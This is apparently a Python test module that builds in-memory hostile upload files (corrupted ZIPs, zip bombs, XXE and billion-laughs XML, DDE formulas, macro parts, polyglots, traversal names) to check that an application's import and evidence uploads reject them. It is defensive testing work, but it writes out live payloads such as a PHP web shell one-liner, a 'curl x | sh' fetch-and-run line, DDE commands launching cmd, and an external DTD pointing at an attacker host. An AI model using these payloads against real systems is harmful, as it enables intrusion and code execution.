"""A generated corpus of hostile or malformed files for every upload point (imports and evidence).

`import_corpus(good, other)` and `evidence_corpus(good_xlsx, good_docx)` return `Hostile`
cases built in memory from a good file: each is refused with one of its `expected` message
fragments (after `overrides` are applied to settings). Families: empty and random files,
other formats, wrong extensions, zip bombs (declared, ratio, huge shared strings and
sheets), lying central directories, bad CRCs, unknown compression methods, truncation, XXE
and billion laughs in every XML part, DDE links and formulas, macros (VBA, Excel 4.0
sheets, ActiveX), polyglots, path traversal and unicode entry names, and unicode or
traversing upload names over hostile content. Large files are built once and reused.
"""

import functools
import io
import random
import re
import struct
import zipfile
from dataclasses import dataclass, field

from tests.plans.hostile_uploads import BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, rezip, zip_of

DAMAGED = ("손상된 압축 형식 파일",)
UNKNOWN_KIND = ("받을 수 없는 파일 형식",)
LYING = ("목차가 실제 내용과 다릅니다", "CRC 불일치", "잘렸습니다", "손상된", "압축된 데이터가 손상")
CORRUPT = ("CRC 불일치", "압축된 데이터가 손상", "목차가 실제 내용과 다릅니다", "잘렸습니다")
UNSUPPORTED = ("지원하지 않는 압축 방식", "압축된 데이터가 손상", "암호가 걸린")
TRUNCATED = ("손상된 압축 형식 파일", "잘렸습니다", "목차가 실제 내용과 다릅니다", "CRC 불일치", "압축된 데이터가 손상")
ENTITIES = ("허용되지 않는 XML 구성",)
DDE = ("연결(DDE)",)
MACRO = ("매크로가 들어 있는 문서",)
TOO_BIG = ("부분이 너무 큽니다", "압축을 풀면 너무 큰", "압축률이 비정상적")
PATH = ("허용되지 않는 경로",)
POLYGLOT = ("폴리글롯", "끝이 온전하지 않습니다")
EXTENSION = ("확장자",)
NOT_A_NUMBER = ("숫자가 아닙니다",)

SHEET = "xl/worksheets/sheet1.xml"
CENTRAL = b"PK\x01\x02"
DOCTYPES = {
    "billion-laughs": (BILLION_LAUGHS, "&lol9;"),
    "external-entity": (EXTERNAL_ENTITY, "&xxe;"),
    "parameter-entity": (PARAMETER_ENTITY, None),
    "external-dtd": ('<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">', None),
    "quadratic-blowup": ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + "a" * 5000 + '">]>', "&a;" * 50),
    "utf8-bom-doctype": ('\ufeff<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]>', "&e;"),
}
UNICODE_NAMES = (
    "보고서\u202excod.pdf",
    "..\\..\\windows\\win.ini",
    "../../etc/passwd",
    "con.xlsx",
    "a" * 240 + ".xlsx",
    "결과\n보고.xlsx",
    "e\u0301ve\u0301nement.xlsx",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢.xlsx",
    ".xlsx",
    "report.xlsx.exe",
    "report.XLSX ",
    "%2e%2e%2fevil.xlsx",
)


@dataclass(frozen=True)
class Hostile:
    """One hostile file: its id, upload name, bytes, message fragments (one must show) and settings."""

    id: str
    name: str
    data: bytes
    expected: tuple[str, ...]
    overrides: dict = field(default_factory=dict)


def entries(data):
    """The ZIP entries of `data`, in directory order."""
    return zipfile.ZipFile(io.BytesIO(data)).infolist()


def central_records(data):
    """Offsets of every central directory record."""
    return [match.start() for match in re.finditer(re.escape(CENTRAL), data)]


def patch(data, offset, fmt, value):
    """`data` with struct `fmt` written at `offset`."""
    out = bytearray(data)
    struct.pack_into(fmt, out, offset, value)
    return bytes(out)


def local_offset(info):
    """Where the entry's local header starts."""
    return info.header_offset


def data_offset(data, info):
    """Where the entry's compressed bytes start (after its local header)."""
    start = info.header_offset
    name_length, extra_length = struct.unpack_from("<2H", data, start + 26)
    return start + 30 + name_length + extra_length


def set_method(data, index, method):
    """Say entry `index` is compressed with `method`, in its local header and the directory."""
    info = entries(data)[index]
    data = patch(data, local_offset(info) + 8, "<H", method)
    return patch(data, central_records(data)[index] + 10, "<H", method)


def flip_data(data, index, where):
    """Flip bytes of entry `index`'s compressed data at fraction `where` of it."""
    info = entries(data)[index]
    start = data_offset(data, info)
    size = max(info.compress_size, 1)
    out = bytearray(data)
    position = start + min(int(size * where), size - 1)
    for offset in range(position, min(position + 4, start + size)):
        out[offset] ^= 0xA5
    return bytes(out)


def set_crc(data, index, crc):
    """A wrong CRC for entry `index`, agreeing in its local header and the directory."""
    info = entries(data)[index]
    data = patch(data, local_offset(info) + 14, "<L", crc)
    return patch(data, central_records(data)[index] + 16, "<L", crc)


def lie_in_directory(data, index, field_offset, value, fmt="<L"):
    """Change one field of entry `index`'s central directory record only."""
    return patch(data, central_records(data)[index] + field_offset, fmt, value)


def lie_everywhere(data, index, size):
    """Entry `index` claims `size` bytes unpacked in its local header and in the directory."""
    info = entries(data)[index]
    data = patch(data, local_offset(info) + 22, "<L", size)
    return patch(data, central_records(data)[index] + 24, "<L", size)


def with_doctype(data, name, doctype, use, encoding="utf-8"):
    """Entry `name` with `doctype` prepended (and an entity used when given)."""

    def change(xml):
        text = re.sub(r"^<\?xml[^>]*\?>", "", xml.decode("utf-8"))
        if use:
            text = re.sub(r"(<t[^>]*>)", lambda match: match.group(1) + use, text, count=1)
        return (doctype + text).encode(encoding)

    return rezip(data, replace={name: change})


SST_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def shared_strings_chunks(megabytes):
    """About `megabytes` MB of shared strings, in chunks; it deflates about 95 to 1, under the ratio limit."""
    yield SST_HEAD
    per_chunk = 20_000
    for start in range(0, megabytes * 1024 * 1024 // 22, per_chunk):
        yield "".join(f"<si><t>{i % 1000:06d}</t></si>" for i in range(start, start + per_chunk)).encode()
    yield b"</sst>"


SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SST_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def with_shared_strings(data, chunks):
    """`data` (an xlsx) with `chunks` streamed in as its shared string table, declared in content types and rels."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "[Content_Types].xml" and b"sharedStrings" not in content:
                content = content.replace(
                    b"</Types>",
                    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/></Types>'.encode(),
                )
            if info.filename == "xl/_rels/workbook.xml.rels" and b"sharedStrings" not in content:
                content = content.replace(
                    b"</Relationships>",
                    f'<Relationship Id="rIdSst" Type="{SST_REL}" Target="sharedStrings.xml"/></Relationships>'.encode(),
                )
            if info.filename != "xl/sharedStrings.xml":
                target.writestr(info.filename, content)
        with target.open("xl/sharedStrings.xml", "w", force_zip64=True) as stream:
            for chunk in chunks:
                stream.write(chunk)
    return out.getvalue()


@functools.cache
def big_shared_strings(megabytes, good):
    """`good` hiding about `megabytes` MB of shared strings, built once."""
    return with_shared_strings(good, shared_strings_chunks(megabytes))


@functools.cache
def big_sheet(megabytes, columns=8):
    """A worksheet of about `megabytes` MB of numbered cells, built once."""
    rows = []
    size, number = 0, 0
    while size < megabytes * 1024 * 1024:
        number += 1
        cells = "".join(f'<c r="{chr(65 + c)}{number}"><v>{number * 7 + c}</v></c>' for c in range(columns))
        row = f'<row r="{number}">{cells}</row>'
        rows.append(row)
        size += len(row)
    return (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(rows)}</sheetData></worksheet>"
    ).encode()


def in_workbook(data, name, xml):
    """`data` with entry `name` replaced by (or added as) `xml`."""
    if name in {info.filename for info in entries(data)}:
        return rezip(data, replace={name: xml})
    return rezip(data, add={name: xml})


def with_content_type(data, part, content_type):
    """`data` with an Override for `part` declared in its content types."""
    return rezip(
        data,
        replace={
            "[Content_Types].xml": lambda xml: xml.replace(
                b"</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'.encode()
            )
        },
    )


def cell_formula(data, formula):
    """The first cell of the first sheet made a formula `formula` (with a cached value)."""

    def change(xml):
        cell = f'<c r="A1"><f>{formula}</f><v>0</v></c>'.encode()
        return re.sub(rb"<c r=\"A1\"[^>]*>.*?</c>", lambda match: cell, xml, count=1, flags=re.S)

    return rezip(data, replace={SHEET: change})


def zip_family(good, *, xml_parts, sheet):
    """Cases every ZIP-based upload point shares: bombs, lying directories, CRCs, methods, truncation, XXE."""
    cases = []
    infos = entries(good)
    count = len(infos)
    for index, info in enumerate(infos):
        cases += [
            Hostile(f"crc-flip-{index}-start", "f.xlsx", flip_data(good, index, 0.1), CORRUPT),
            Hostile(f"crc-flip-{index}-end", "f.xlsx", flip_data(good, index, 0.9), CORRUPT),
            Hostile(f"crc-wrong-{index}", "f.xlsx", set_crc(good, index, info.CRC ^ 0xFFFF), CORRUPT),
            Hostile(f"crc-lie-directory-{index}", "f.xlsx", lie_in_directory(good, index, 16, info.CRC ^ 1), LYING),
            Hostile(
                f"size-smaller-{index}", "f.xlsx", lie_in_directory(good, index, 24, max(info.file_size // 2, 1)), LYING
            ),
            Hostile(f"size-larger-{index}", "f.xlsx", lie_in_directory(good, index, 24, info.file_size + 4096), LYING),
            Hostile(
                f"size-both-lie-{index}", "f.xlsx", lie_everywhere(good, index, max(info.file_size // 3, 1)), LYING
            ),
            Hostile(
                f"compressed-size-lie-{index}",
                "f.xlsx",
                lie_in_directory(good, index, 20, info.compress_size + 999),
                LYING,
            ),
            Hostile(f"offset-lie-{index}", "f.xlsx", lie_in_directory(good, index, 42, info.header_offset + 7), LYING),
            Hostile(f"offset-past-end-{index}", "f.xlsx", lie_in_directory(good, index, 42, len(good) + 10), LYING),
        ]
        for method in (1, 6, 9, 12, 14, 19, 95, 98, 99):
            cases.append(
                Hostile(
                    f"method-{method}-entry-{index}", "f.xlsx", set_method(good, index, method), UNSUPPORTED + CORRUPT
                )
            )
        cases.append(
            Hostile(
                f"encrypted-flag-{index}",
                "f.xlsx",
                lie_in_directory(good, index, 8, info.flag_bits | 1, "<H"),
                UNSUPPORTED,
            )
        )
    for size in (250 * 1024 * 1024, 2**31, 2**32 - 1, 10**9):
        cases.append(Hostile(f"bomb-declared-{size}", "f.xlsx", _declared_everywhere(good, size), TOO_BIG + LYING))
    for megabytes in (3, 5, 10):
        zeros = rezip(good, add={"xl/media/zeros.bin": b"\x00" * (megabytes * 1024 * 1024)})
        cases.append(Hostile(f"bomb-ratio-{megabytes}mb", "f.xlsx", zeros, TOO_BIG))
    first = central_records(good)[0]
    cases += [
        Hostile("directory-duplicated", "f.xlsx", _duplicate_directory(good), (*LYING, "항목이 너무 많습니다")),
        Hostile("directory-count-lie", "f.xlsx", _end_record_patch(good, 10, count + 5), DAMAGED + LYING),
        Hostile("directory-offset-lie", "f.xlsx", _end_record_patch(good, 16, first + 3, "<L"), DAMAGED + LYING),
        Hostile("directory-name-lie", "f.xlsx", _rename_in_directory(good, 0), LYING),
        Hostile("directory-gone", "f.xlsx", good.replace(b"PK\x05\x06", b"PK\x00\x00"), DAMAGED),
        Hostile("directory-signature-broken", "f.xlsx", patch(good, first, "<4s", b"PK\x09\x09"), DAMAGED + LYING),
    ]
    for percent in range(1, 100, 4):
        cut = good[: len(good) * percent // 100]
        cases.append(Hostile(f"truncated-{percent}pct", "f.xlsx", cut, TRUNCATED))
    for cut in (4, 30, 31, 200, 22, 1):
        cases.append(Hostile(f"truncated-last-{cut}", "f.xlsx", good[:-cut], TRUNCATED))
    for name in xml_parts:
        for label, (doctype, use) in DOCTYPES.items():
            cases.append(Hostile(f"xxe-{label}-{name}", "f.xlsx", with_doctype(good, name, doctype, use), ENTITIES))
        cases.append(
            Hostile(
                f"xxe-utf16-{name}", "f.xlsx", _utf16_doctype(good, name), (*ENTITIES, "엑셀 파일을 읽을 수 없습니다")
            )
        )
    for name in (
        "../evil.xml",
        "../../../../etc/cron.d/x",
        "/abs/x.xml",
        "C:/windows/x.xml",
        "xl\\..\\..\\x.xml",
        "a/../../b",
    ):
        cases.append(Hostile(f"traversal-{name}", "f.xlsx", rezip(good, add={name: b"x"}), PATH))
    for name in (
        "xl/vbaProject.bin",
        "xl/VBAProject.BIN",
        "word/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "xl/intlMacrosheets/sheet1.xml",
        "xl/activeX/activeX1.xml",
        "customUI/vbaProject.bin",
        "xl/vbaData.xml",
    ):
        cases.append(Hostile(f"macro-part-{name}", "f.xlsx", rezip(good, add={name: b"<x/>"}), MACRO))
    for content_type in (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.ms-excel.macrosheet+xml",
        "application/vnd.ms-office.vbaProject",
        "application/vnd.ms-office.activeX+xml",
        "application/vnd.ms-excel.intlmacrosheet+xml",
    ):
        cases.append(
            Hostile(f"macro-type-{content_type}", "f.xlsx", with_content_type(good, "/xl/x.bin", content_type), MACRO)
        )
    dde_link = (
        b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    cases.append(Hostile("dde-link", "f.xlsx", rezip(good, add={"xl/externalLinks/externalLink1.xml": dde_link}), DDE))
    if sheet:
        for formula in (
            "cmd|'/c calc'!A0",
            "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)|x",
            "SUM(1)+cmd|' /C notepad'!'A1'",
        ):
            cases.append(Hostile(f"dde-formula-{formula[:12]}", "f.xlsx", cell_formula(good, formula), DDE))
    cases.append(Hostile("entry-name-with-nul", "f.xlsx", _nul_named(good), PATH))
    return cases


def _declared_everywhere(data, size):
    out = data
    for index in range(len(entries(data))):
        out = lie_in_directory(out, index, 24, size)
    return out


def _end_record_patch(data, offset, value, fmt="<H"):
    end = data.rindex(b"PK\x05\x06")
    return patch(data, end + offset, fmt, value)


def _duplicate_directory(data):
    """Every central directory record twice (entry names repeat; counts patched to agree)."""
    first, end = central_records(data)[0], data.rindex(b"PK\x05\x06")
    directory = data[first:end]
    count = len(entries(data))
    record = bytearray(data[end:])
    struct.pack_into("<HHL", record, 8, count * 2, count * 2, len(directory) * 2)
    return data[:first] + directory * 2 + bytes(record)


def _rename_in_directory(data, index):
    record = central_records(data)[index]
    name_length = struct.unpack_from("<H", data, record + 28)[0]
    out = bytearray(data)
    out[record + 46 : record + 46 + name_length] = b"Z" * name_length
    return bytes(out)


def _nul_named(data):
    """An added entry whose name, in the local header and the directory, holds a NUL byte."""
    marker = b"NULNAMEX.xml"
    return rezip(data, add={marker.decode(): b"<x/>"}).replace(marker, b"nul\x00name.xml")


def _utf16_doctype(data, name):
    def change(xml):
        text = re.sub(r"^<\?xml[^>]*\?>", "", xml.decode("utf-8"))
        return ('<?xml version="1.0" encoding="UTF-16"?>' + EXTERNAL_ENTITY[21:] + text).encode("utf-16")

    return rezip(data, replace={name: change})


def other_formats(target_name):
    """Files of other formats, or none, uploaded under `target_name`."""
    rng = random.Random(15)
    samples = {
        "empty": (b"", ("빈 파일", "비어있습니다")),
        "one-byte": (b"P", UNKNOWN_KIND),
        "zip-magic-only": (b"PK\x03\x04", DAMAGED + TRUNCATED),
        "spaces": (b"   \n\t ", UNKNOWN_KIND),
        "bom-only": (b"\xef\xbb\xbf", UNKNOWN_KIND),
        "zeros-4k": (b"\x00" * 4096, UNKNOWN_KIND),
        "ff-4k": (b"\xff" * 4096, UNKNOWN_KIND),
        "exe": (b"MZ\x90\x00\x03" + b"\x00" * 58 + b"PE\x00\x00" + bytes(200), UNKNOWN_KIND),
        "elf": (b"\x7fELF\x02\x01\x01" + bytes(200), UNKNOWN_KIND),
        "mach-o": (b"\xcf\xfa\xed\xfe" + bytes(200), UNKNOWN_KIND),
        "shell": (b"#!/bin/sh\ncurl x | sh\n", UNKNOWN_KIND),
        "php": (b"<?php system($_GET['c']); ?>", UNKNOWN_KIND),
        "html": (b"<!DOCTYPE html><script>alert(1)</script>", UNKNOWN_KIND),
        "svg-script": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', UNKNOWN_KIND),
        "xml-xxe": (EXTERNAL_ENTITY.encode() + b"<x>&xxe;</x>", UNKNOWN_KIND),
        "csv-dde": (b"=cmd|' /C calc'!A0,1\n", UNKNOWN_KIND),
        "rtf": (b"{\\rtf1\\ansi{\\object\\objemb}}", UNKNOWN_KIND),
        "gzip": (b"\x1f\x8b\x08\x00" + bytes(100), UNKNOWN_KIND),
        "7z": (b"7z\xbc\xaf\x27\x1c" + bytes(100), UNKNOWN_KIND),
        "rar": (b"Rar!\x1a\x07\x00" + bytes(100), UNKNOWN_KIND),
        "bzip2": (b"BZh91AY&SY" + bytes(100), UNKNOWN_KIND),
        "xz": (b"\xfd7zXZ\x00" + bytes(100), UNKNOWN_KIND),
        "tar": (b"evil.txt".ljust(257, b"\x00") + b"ustar\x00" + bytes(250), UNKNOWN_KIND),
        "ole-not-hwp": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(3000), UNKNOWN_KIND),
        "ole-truncated": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", UNKNOWN_KIND),
        "plain-zip": (zip_of({"readme.txt": b"hello"}), UNKNOWN_KIND),
        "empty-zip": (zip_of({}), UNKNOWN_KIND + DAMAGED),
        "ods": (
            zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
            UNKNOWN_KIND,
        ),
        "jar": (zip_of({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe\xba\xbe"}), UNKNOWN_KIND),
        "apk-like": (zip_of({"AndroidManifest.xml": b"\x03\x00", "classes.dex": b"dex\n035\x00"}), UNKNOWN_KIND),
    }
    for size in (2, 16, 333, 4097, 70_000):
        samples[f"random-{size}"] = (rng.randbytes(size), UNKNOWN_KIND)
    return [Hostile(f"format-{key}", target_name, data, expected) for key, (data, expected) in samples.items()]


def import_corpus(good, *, number_column):
    """Hostile files for an Excel import, from a good filled template `good`.

    `number_column` is the index of a column that must hold a number (formulas go there).
    The hand-written cases of tests/plans/hostile_uploads.py (wrong templates, row limits)
    run at each importer's service in its own tests.
    """
    xml_parts = [info.filename for info in entries(good) if info.filename.endswith((".xml", ".rels"))]
    cases = zip_family(good, xml_parts=xml_parts, sheet=True)
    cases += other_formats("f.xlsx")
    for megabytes in (3, 20, 64):
        cases.append(
            Hostile(f"huge-shared-strings-{megabytes}mb", "f.xlsx", big_shared_strings(megabytes, good), TOO_BIG)
        )
    cases.append(Hostile("huge-sheet-3mb", "f.xlsx", in_workbook(good, SHEET, big_sheet(3)), TOO_BIG))
    cases.append(Hostile("huge-styles", "f.xlsx", in_workbook(good, "xl/styles.xml", _huge_styles()), TOO_BIG))
    shared = big_shared_strings(3, good)
    hidden = lie_everywhere(shared, _index_of(shared, "xl/sharedStrings.xml"), 4096)
    cases.append(Hostile("shared-strings-hidden-behind-small-size", "f.xlsx", hidden, LYING + TOO_BIG))
    for formula in (
        "=1+1",
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3-",
        '=HYPERLINK("http://x","x")',
        "=cmd|'/c calc'!A0",
    ):
        cases.append(
            Hostile(f"formula-text-{formula[:10]}", "f.xlsx", _number_text(good, number_column, formula), NOT_A_NUMBER)
        )
    for index, name in enumerate(UNICODE_NAMES):
        cases.append(Hostile(f"upload-name-{index}", name, rezip(good, add={"xl/vbaProject.bin": b"x"}), MACRO))
    return cases


def _index_of(data, name):
    names = [info.filename for info in entries(data)]
    return names.index(name) if name in names else len(names)


@functools.cache
def _huge_styles():
    fonts = "".join(f'<font><sz val="{10 + i % 5}"/><name val="F{i}"/></font>' for i in range(60_000))
    return (
        '<?xml version="1.0"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<fonts count="60000">{fonts}</fonts></styleSheet>'
    ).encode()


def _number_text(good, column, text):
    """The good template with `text` typed into number column `column` of its first row."""
    import openpyxl

    workbook = openpyxl.load_workbook(io.BytesIO(good))
    ws = workbook.active
    for row in ws.iter_rows(min_row=4):
        if any(cell.value not in (None, "") for cell in row[5:]):
            cell = row[column]
            cell.value, cell.data_type = text, "s"
            break
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(17) + b"\x00\x00\x00\x00IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(40) + b"\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + bytes(20) + b";"


def evidence_corpus(good_xlsx, good_docx):
    """Hostile evidence files: the ZIP families over an xlsx and a docx, polyglots, wrong extensions."""
    cases = zip_family(
        good_xlsx, xml_parts=[i.filename for i in entries(good_xlsx) if i.filename.endswith(".xml")], sheet=True
    )
    # The imports try every compression method on every entry; evidence (a slower admin page) on three.
    cases = [case for case in cases if not re.fullmatch(r"method-\d+-entry-([3-9]|\d\d+)", case.id)]
    docx_parts = [i.filename for i in entries(good_docx) if i.filename.endswith(".xml")]
    docx = [
        Hostile(f"docx-{case.id}", "f.docx", case.data, case.expected)
        for case in zip_family(good_docx, xml_parts=docx_parts, sheet=False)
        if not case.id.startswith(("method-", "crc-flip", "size-", "offset-", "compressed-"))
    ]
    cases += docx
    cases += other_formats("결과보고.pdf")
    for field_code in (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', ' DDE cmd "/c calc" '):
        cases.append(Hostile(f"docx-dde-{field_code[:8]}", "f.docx", _docx_field(good_docx, field_code), DDE))
    polyglots = {
        "pdf-with-zip": (PDF + good_xlsx, "a.pdf"),
        "pdf-then-zip-end": (PDF[:-1] + b"PK\x05\x06" + bytes(18) + b"\n%%EOF\n", "a.pdf"),
        "pdf-with-html-head": (b"%PDF-1.4\n<html><script>alert(1)</script>\n%%EOF", "a.pdf"),
        "pdf-truncated": (PDF[:-8], "a.pdf"),
        "pdf-with-trailing-exe": (PDF + b"MZ" + bytes(2000), "a.pdf"),
        "png-with-zip": (PNG + good_xlsx, "a.png"),
        "png-with-html": (PNG[:8] + b"<script>alert(1)</script>" + PNG[8:], "a.png"),
        "png-truncated": (PNG[:-6], "a.png"),
        "png-trailing-php": (PNG + b"<?php system($_GET[c]); ?>", "a.png"),
        "jpeg-with-zip": (JPEG + good_docx, "a.jpg"),
        "jpeg-with-html": (JPEG[:20] + b"<html><body>x</body></html>" + JPEG[20:], "a.jpg"),
        "jpeg-trailing-data": (JPEG + b"#!/bin/sh\n", "a.jpg"),
        "gif-javascript": (b"GIF89a/*\x00\x00*/=alert(1);" + b"<script>" + GIF[6:], "a.gif"),
        "gif-with-zip": (GIF + good_xlsx, "a.gif"),
        "gif-truncated": (GIF[:-1], "a.gif"),
        "zip-with-pdf-head": (_pdf_first(good_xlsx), "a.xlsx"),
        "hwp-ole-with-zip": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + good_xlsx, "a.hwp"),
    }
    for key, (data, name) in polyglots.items():
        expected = POLYGLOT + (UNKNOWN_KIND if key.startswith("hwp") else ())
        cases.append(Hostile(f"polyglot-{key}", name, data, expected))
    good_files = {"pdf": PDF, "png": PNG, "jpeg": JPEG, "gif": GIF, "xlsx": good_xlsx, "docx": good_docx}
    wrong_names = (
        ".docx",
        ".xlsx",
        ".hwp",
        ".hwpx",
        ".png",
        ".jpg",
        ".gif",
        ".pdf",
        ".exe",
        ".html",
        ".svg",
        "",
        ".pdf.exe",
    )
    for kind, data in good_files.items():
        own = {
            "pdf": (".pdf",),
            "png": (".png",),
            "jpeg": (".jpg", ".jpeg"),
            "gif": (".gif",),
            "xlsx": (".xlsx",),
            "docx": (".docx",),
        }[kind]
        for suffix in wrong_names:
            if suffix in own:
                continue
            cases.append(Hostile(f"extension-{kind}-as-{suffix or 'none'}", f"증빙{suffix}", data, EXTENSION))
    for index, name in enumerate(UNICODE_NAMES):
        cases.append(Hostile(f"upload-name-{index}", name, PDF + b"PK\x05\x06" + bytes(18), POLYGLOT + EXTENSION))
    return cases


def _pdf_first(good):
    """`good` with a stored first entry that starts with a PDF header (readers look in the first 1 KB)."""
    source = zipfile.ZipFile(io.BytesIO(good))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr("0.txt", PDF, zipfile.ZIP_STORED)
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename), zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _docx_field(good_docx, code):
    field = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
    return rezip(
        good_docx,
        replace={
            "word/document.xml": lambda xml: xml.replace(b"<w:body>", b"<w:body><w:p>" + field.encode() + b"</w:p>", 1)
        },
    )
